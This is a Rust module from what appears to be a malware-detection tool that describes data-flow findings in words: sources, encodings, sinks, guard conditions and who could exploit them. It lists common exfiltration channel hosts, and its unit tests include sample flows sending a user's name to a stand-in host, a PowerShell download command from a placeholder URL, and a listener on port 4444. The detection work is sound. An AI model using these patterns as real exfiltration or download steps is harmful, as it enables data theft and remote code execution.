//! What facts mean in a sentence: each step of a way, the tests that stand before it, and who could use what it opens.
//!
//! Words are made here, where all facts are at hand; reports only show them.

use crate::places::Places;
use crate::view::Seen;
use doorward_model::{Fact, Finding, Told, text, vocabulary};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// Most bytes of a name in a sentence.
const NAME_BYTES_MAX: usize = 80;

/// Most conditions that are told of one finding.
const GUARDS_MAX: usize = 4;

/// Hosts at which many have a channel, a robot or a page of their own: their operator is not who reads what is sent.
const CHANNEL_HOSTS: [&str; 8] = [
    "api.telegram.org",
    "discord.com",
    "discordapp.com",
    "hooks.slack.com",
    "pastebin.com",
    "webhook.site",
    "transfer.sh",
    "gofile.io",
];

/// The steps of a way in words.
pub(crate) fn way(fact: &Fact) -> Vec<Told> {
    let last = fact.way.len().saturating_sub(1);
    let words = |at: usize, told: &Told| match at {
        0 => source(fact),
        at if at == last => sink(fact),
        _ if !told.does.is_empty() => transform(&told.does),
        _ => "hands it on".into(),
    };
    let steps = fact.way.iter().enumerate().map(|(at, told)| Told { does: words(at, told).into(), ..told.clone() });
    // Two steps of one line that only hand on say nothing twice.
    let mut way: Vec<Told> = Vec::new();
    for step in steps {
        let repeats = |known: &Told| {
            known.line == step.line && known.text == step.text && known.file == step.file && &*step.does == "hands it on"
        };
        if !way.last().is_some_and(repeats) {
            way.push(step);
        }
    }
    way
}

fn name(fact: &Fact, arg: &str) -> Option<String> {
    let name = fact.text(arg)?;
    let end = name.floor_char_boundary(NAME_BYTES_MAX.min(name.len()));
    Some(text::visible(name.as_bytes().get(..end).unwrap_or_default()))
}

/// Where data come from.
fn source(fact: &Fact) -> String {
    let what = name(fact, "what");
    let what = what.as_deref();
    match (fact.text("from").unwrap_or_default(), what) {
        ("env.read", None | Some("all")) => "reads all environment variables".into(),
        ("env.read", Some(what)) => format!("reads the environment variable {what}"),
        ("host.read", Some("user")) => "reads the user's name".into(),
        ("host.read", Some("hostname")) => "reads the host's name".into(),
        ("host.read", Some("os")) => "reads which system it runs on".into(),
        ("host.read", Some("address")) => "reads the host's address".into(),
        ("host.read", Some("date")) => "reads the date".into(),
        ("host.read", Some("arguments")) => "reads the command line".into(),
        ("host.read", Some(what)) => format!("reads of the host: {what}"),
        ("host.read", None) => "reads what the host is".into(),
        ("secret.read", Some(what)) => format!("reads secrets: {what}"),
        ("secret.read", None) => "reads secrets".into(),
        ("file.read", Some(what)) => format!("reads the file {what}"),
        ("file.read", None) => "reads a file".into(),
        ("clipboard.read", _) => "reads the clipboard".into(),
        ("screen.read", _) => "takes a picture of the screen".into(),
        ("net.receive", Some(what)) => format!("receives what {what} answers"),
        ("net.receive", None) => "receives data from the network".into(),
        (kind, Some(what)) => format!("takes data ({kind}): {what}"),
        (kind, None) => format!("takes data ({kind})"),
    }
}

/// Where data go.
fn sink(fact: &Fact) -> String {
    let host =
        name(fact, "host").map_or_else(|| "an address that is only known when it runs".into(), |host| format!("host {host}"));
    let path = name(fact, "path").map_or_else(|| "a file".into(), |path| format!("the file {path}"));
    match fact.text("to").unwrap_or_default() {
        "net.send" => format!("sends it to {host}"),
        "net.connect" => format!("connects with it to {host}"),
        "net.resolve" => "asks for a host's name that holds it".into(),
        "process.spawn" => "runs it as a command".into(),
        "code.eval" => "runs it as code".into(),
        "code.load" => "loads it as code".into(),
        "file.write" => format!("writes it to {path}"),
        "file.execute" => format!("makes {path} a program"),
        "file.delete" => format!("deletes {path}"),
        "registry.write" => "writes it to the registry".into(),
        "clipboard.write" => "writes it to the clipboard".into(),
        "persist" => "makes it start by itself".into(),
        kind => format!("ends there ({kind})"),
    }
}

/// What is done on the way.
fn transform(name: &str) -> String {
    if let Some(count) = name.strip_prefix("skipped") {
        let count = if count.is_empty() { " further" } else { count };
        return format!("hands it on in{} steps that are not shown", text::visible(count.as_bytes()));
    }
    match name {
        "file" => "keeps it in a file".into(),
        "base64" | "hex" | "base32" | "base85" => format!("writes it as {name}, or reads it back"),
        "zlib" | "gzip" | "bzip2" | "lzma" => format!("packs or unpacks it ({name})"),
        "json" => "writes it as JSON, or reads it back".into(),
        "encrypt" => "encrypts it".into(),
        "decrypt" | "aes" | "rc4" | "fernet" => "decrypts it".into(),
        "xor" => "hides it with xor, or reveals it".into(),
        "percent" => "escapes it for an address, or reads it back".into(),
        "marshal" => "turns it into an object of code".into(),
        other => format!("changes it ({})", text::visible(other.as_bytes())),
    }
}

/// The conditions before what a finding rests on: each test that stands before all of its evidence of one kind. Where one fact is
/// reached without it, the finding does not wait for it.
pub(crate) fn guards(places: &Places<'_>, evidence: &[Seen<'_>]) -> Vec<Box<str>> {
    let mut of_kinds: BTreeMap<&str, BTreeSet<Box<str>>> = BTreeMap::new();
    for seen in evidence {
        let Some(content) = seen.content.map(|content| places.tree.content(content)) else { continue };
        let is_before = |guard: &&Fact| {
            guard.kind == &vocabulary::GUARD
                && (std::ptr::eq(*guard, seen.fact) || guard.steps.iter().any(|site| site.span == seen.fact.span))
        };
        let before: BTreeSet<Box<str>> = content.facts.iter().filter(is_before).map(guard).collect();
        match of_kinds.get_mut(seen.fact.kind.name) {
            Some(all) if seen.fact.kind == &vocabulary::GUARD => all.extend(before),
            Some(all) => all.retain(|guard| before.contains(guard)),
            None => drop(of_kinds.insert(seen.fact.kind.name, before)),
        }
    }
    let all: BTreeSet<Box<str>> = of_kinds.into_values().flatten().collect();
    all.into_iter().take(GUARDS_MAX).collect()
}

fn guard(fact: &Fact) -> Box<str> {
    let on = match fact.text("on").unwrap_or_default() {
        "platform" => "the platform".into(),
        "user" => "the user's name".into(),
        "host" => "the host's name or address".into(),
        "date" => "the date".into(),
        "age" => "how old a file is".into(),
        "locale" => "the language or country".into(),
        "argument" => "the command line".into(),
        "ci" => "whether it runs in a build service".into(),
        other => text::visible(other.as_bytes()),
    };
    let value = name(fact, "value").map(|value| format!(" (`{value}`)")).unwrap_or_default();
    let line = if fact.anchor.line > 0 { format!(", line {}", fact.anchor.line) } else { String::new() };
    format!("only after a test of {on}{value}{line}").into()
}

/// Who could use the door: what the page says, with the hosts that the facts name.
pub(crate) fn opens_to(stated: Option<&str>, evidence: &[Seen<'_>]) -> Option<Box<str>> {
    let hosts: BTreeSet<String> = evidence.iter().filter_map(|seen| host(seen.fact)).collect();
    let hosts: Vec<String> = hosts.into_iter().take(3).collect();
    let listens = evidence.iter().find(|seen| seen.fact.kind == &vocabulary::NET_LISTEN).map(|seen| seen.fact);
    let named = hosts.join(", ");
    let is_shared = |host: &String| CHANNEL_HOSTS.iter().any(|shared| host == shared || host.ends_with(&format!(".{shared}")));
    let said = match (stated, listens) {
        (Some(stated), _) if hosts.is_empty() => stated.to_owned(),
        (stated, _)
            if !hosts.is_empty() && hosts.iter().all(is_shared) && stated.is_none_or(|who| who.starts_with("whoever")) =>
        {
            format!("whoever owns the channel at {named}")
        }
        (Some(stated), _) => format!("{stated}: {named}"),
        (None, Some(listens)) => match listens.number("port").map(|port| port.to_string()).or_else(|| name(listens, "port")) {
            Some(port) => format!("anyone on the network who reaches port {port}"),
            None => "anyone on the network who reaches the port that it listens on".into(),
        },
        (None, None) if hosts.is_empty() => return None,
        (None, None) if hosts.iter().all(|host| host.parse::<IpAddr>().is_ok()) => format!("whoever holds the address {named}"),
        (None, None) => format!("whoever controls {named}"),
    };
    Some(said.into())
}

/// The host that a fact's data go to or come from, where it is known whole.
fn host(fact: &Fact) -> Option<String> {
    let kinds = ["flow", "net.connect", "net.send", "net.receive", "net.resolve", "url", "process.spawn"];
    if !kinds.contains(&fact.kind.name) {
        return None;
    }
    let authority = |rest: &'_ str| -> Option<String> {
        let host = rest.split(['/', ':', '?', '#', '\'', '"', ' ', ')']).next()?;
        host.contains('.').then(|| host.to_owned())
    };
    let answered = fact.text("what").filter(|_| fact.text("from") == Some("net.receive"));
    let answered = answered.and_then(|what| authority(what.split_once("://").map_or(what, |(_, rest)| rest)));
    let asked = fact.text("command").and_then(|command| authority(command.split_once("://")?.1));
    let host = answered.or(asked);
    let host = host.as_deref().or_else(|| fact.text("host"))?;
    let is_plain = !host.is_empty() && host.len() <= NAME_BYTES_MAX && host.is_ascii() && !host.contains(char::is_whitespace);
    is_plain.then(|| text::visible(host.as_bytes()))
}

/// Tells a finding's conditions and whom it opens to.
pub(crate) fn tell(places: &Places<'_>, finding: &mut Finding, evidence: &[Seen<'_>]) {
    finding.guards = guards(places, evidence);
    finding.opens_to = opens_to(finding.opens_to.as_deref(), evidence);
}

#[cfg(test)]
mod tests {
    use super::*;
    use doorward_model::{NodeId, Site, Span};

    fn seen(fact: &Fact) -> Seen<'_> {
        Seen { fact, node: NodeId(0), content: None, placement: None }
    }

    fn flow(args: &[(&str, &str)]) -> Fact {
        args.iter().fold(Fact::new(&vocabulary::FLOW, Span::new(0, 1), "t"), |fact, (name, value)| fact.with(name, *value))
    }

    #[test]
    fn a_way_is_told_step_by_step() {
        let mut fact = flow(&[("from", "host.read"), ("what", "user"), ("to", "net.send"), ("host", "collect.example.test")]);
        let step =
            |line, does: &str, text: &str| Told { does: does.into(), line, text: text.as_bytes().into(), ..Told::default() };
        fact.way = vec![
            step(3, "", "u = getuser()"),
            step(4, "base64", "b = enc(u)"),
            step(5, "", "b"),
            step(5, "", "b"),
            step(6, "", "post(b)"),
        ];
        fact.steps = vec![Site { content: None, span: Span::new(0, 1) }; 5];
        let told: Vec<String> = way(&fact).iter().map(|told| format!("{} {}", told.line, told.does)).collect();
        assert_eq!(
            told,
            [
                "3 reads the user's name",
                "4 writes it as base64, or reads it back",
                "5 hands it on",
                "6 sends it to host collect.example.test"
            ]
        );
    }

    #[test]
    fn who_could_use_it_is_computed() {
        let listen = Fact::new(&vocabulary::NET_LISTEN, Span::new(0, 1), "t").with("port", 4444_u64);
        let cases = [
            (
                Some("whoever controls the host"),
                flow(&[("to", "net.send"), ("host", "a.example.test")]),
                Some("whoever controls the host: a.example.test"),
            ),
            (None, flow(&[("to", "net.send"), ("host", "203.0.113.7")]), Some("whoever holds the address 203.0.113.7")),
            (
                None,
                flow(&[("from", "net.receive"), ("what", "https://u.example.test/x"), ("to", "code.eval")]),
                Some("whoever controls u.example.test"),
            ),
            (
                Some("whoever controls the host"),
                flow(&[("to", "net.send"), ("host", "api.telegram.org")]),
                Some("whoever owns the channel at api.telegram.org"),
            ),
            (
                None,
                Fact::new(&vocabulary::PROCESS_SPAWN, Span::new(0, 1), "t")
                    .with("command", "powershell -c iwr 'https://u.example.test/x' -out y"),
                Some("whoever controls u.example.test"),
            ),
            (None, listen, Some("anyone on the network who reaches port 4444")),
            (None, flow(&[("to", "net.send")]), None),
            (Some("the holder of the key"), flow(&[("to", "net.send"), ("host", "a b\u{202e}")]), Some("the holder of the key")),
        ];
        for (stated, fact, expected) in cases {
            assert_eq!(opens_to(stated, &[seen(&fact)]).as_deref(), expected);
        }
    }
}
